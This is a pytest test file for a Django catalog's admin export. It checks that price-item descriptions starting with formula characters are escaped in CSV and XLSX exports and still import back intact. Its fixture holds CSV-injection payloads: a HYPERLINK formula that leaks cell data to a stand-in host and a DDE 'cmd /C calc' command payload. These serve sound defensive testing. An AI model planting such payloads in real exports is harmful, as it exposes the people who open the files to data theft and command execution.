"""Spreadsheet formula injection (issue 13 item 9): a price-item description starting with
``= + - @`` (or a tab/CR) never becomes a live formula in an admin export, and the export
still imports back to the same data.  The quote workbook's side is in test_workbook_formulas.py.

OWASP, "CSV Injection": https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from catalog.admin.base import CatalogAdmin
from catalog.admin.hardware import ServerNicAdmin
from catalog.admin.resources import PriceItemResource
from catalog.models import PriceItem
from catalog.spreadsheet import SafeCSV, SafeXLSX, csv_safe, csv_unescape, is_dangerous

pytestmark = pytest.mark.django_db

HOSTILE = {
    "description": '=HYPERLINK("http://evil.example/?leak="&A1,"Atlas")',
    "description_zh": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source": "+1-2",
}


@pytest.mark.parametrize(
    "text, dangerous",
    [
        ("=1+1", True),
        ("+1", True),
        ("-1", True),
        ("@A1", True),
        ("\t=1", True),
        ("\r=1", True),
        ("Atlas 800 A3", False),
        ("", False),
        ("a=b", False),
        ("'=1", False),
        ("''+1", False),
        ("'x", False),
    ],  # fmt: skip
)
def test_what_counts_as_a_formula(text, dangerous):
    assert is_dangerous(text) is dangerous
    assert csv_unescape(csv_safe(text)) == text


def test_the_admin_exports_with_the_safe_formats():
    for admin in (CatalogAdmin, ServerNicAdmin):
        assert admin.export_formats == [SafeCSV, SafeXLSX] and admin.import_formats == [SafeCSV, SafeXLSX]


@pytest.fixture
def hostile_item(catalog):
    item = PriceItem.objects.get(kind="server", item_slug="atlas-800-a3")
    for key, value in HOSTILE.items():
        setattr(item, key, value)
    item.save()
    return item


def test_csv_export_puts_formula_text_behind_an_apostrophe_and_imports_back(hostile_item):
    text = SafeCSV().export_data(PriceItemResource().export())
    rows = list(csv.DictReader(io.StringIO(text)))
    row = next(r for r in rows if r["sku"] == hostile_item.sku)
    for key, value in HOSTILE.items():
        assert row[key] == "'" + value, key
    # No cell of the export starts a formula.
    assert not any(is_dangerous(cell) for r in rows for cell in r.values())
    result = PriceItemResource().import_data(SafeCSV().create_dataset(text), dry_run=False, raise_errors=True)
    assert result.totals["update"] == 0 and result.totals["new"] == 0
    hostile_item.refresh_from_db()
    assert {key: getattr(hostile_item, key) for key in HOSTILE} == HOSTILE


def test_xlsx_export_writes_formula_text_as_text_and_imports_back(hostile_item):
    content = SafeXLSX().export_data(PriceItemResource().export())
    sheet = load_workbook(io.BytesIO(content)).active
    header = [c.value for c in sheet[1]]
    formulas = [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("sku")].value == hostile_item.sku)
    for key, value in HOSTILE.items():
        cell = row[header.index(key)]
        assert cell.data_type == "s" and cell.value == value, key
    result = PriceItemResource().import_data(
        SafeXLSX().create_dataset(content), dry_run=False, raise_errors=True
    )
    assert result.totals["update"] == 0 and result.totals["new"] == 0
